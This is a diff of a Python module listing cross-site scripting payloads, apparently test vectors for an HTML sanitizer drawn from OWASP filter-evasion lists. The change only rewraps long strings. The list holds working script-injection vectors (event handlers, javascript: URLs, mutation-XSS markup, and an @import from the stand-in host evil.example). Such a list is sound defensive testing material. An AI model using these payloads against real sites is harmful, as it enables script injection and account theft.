@@ -1,5 +1,4 @@
-"""Ways to run a script from markup, after OWASP's list of filter evasions, and others that parsers
-disagree on."""
+"""Ways to run a script from markup, after OWASP's filter evasions and what parsers disagree on."""
 
 VECTORS: tuple[str, ...] = (
     "<script>alert(1)</script>",
@@ -29,16 +28,19 @@ VECTORS: tuple[str, ...] = (
     "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
     "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
     "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
+    'onerror=alert(1)&gt;">',
     '<math href="javascript:alert(1)">x</math>',
-    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
+    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img "
+    "onerror=alert(1) src>'>",
     "<iframe src=javascript:alert(1)></iframe>",
     "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
     '<iframe src="https://video.example/1" onload=alert(1)></iframe>',
     "<object data=data:text/html,<script>alert(1)</script>></object>",
     "<embed src=javascript:alert(1)>",
     "<applet code=x></applet>",
-    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
+    "<form action=javascript:alert(1)><input type=submit><button "
+    "formaction=javascript:alert(1)>x</button></form>",
     "<input autofocus onfocus=alert(1)>",
     "<details open ontoggle=alert(1)>x</details>",
     "<video><source onerror=alert(1)></video>",
@@ -47,7 +49,8 @@ VECTORS: tuple[str, ...] = (
     "<base href='javascript:alert(1);//'>",
     "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
     "<link rel=stylesheet href=javascript:alert(1)>",
-    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
+    "<style>@import 'https://evil.example/x.css'; "
+    "body{background:url(javascript:alert(1))}</style>",
     '<p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>',
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
     "<template><script>alert(1)</script></template>",
@@ -57,8 +60,10 @@ VECTORS: tuple[str, ...] = (
     "<![CDATA[<img src=x onerror=alert(1)>]]>",
     "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
     "<marquee onstart=alert(1)>x</marquee>",
-    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</td></tr></table>",
-    '<figure data-figure="9999" onclick=alert(1)><figcaption><script>alert(1)</script></figcaption></figure>',
+    "<table background=javascript:alert(1)><tr><td "
+    "background=javascript:alert(1)>x</td></tr></table>",
+    '<figure data-figure="9999" '
+    "onclick=alert(1)><figcaption><script>alert(1)</script></figcaption></figure>",
     '<p id="x" name="y" class="z" contenteditable onbeforeinput=alert(1) is="x-y" slot="a">x</p>',
     "<x-evil onclick=alert(1) tabindex=0>x</x-evil>",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
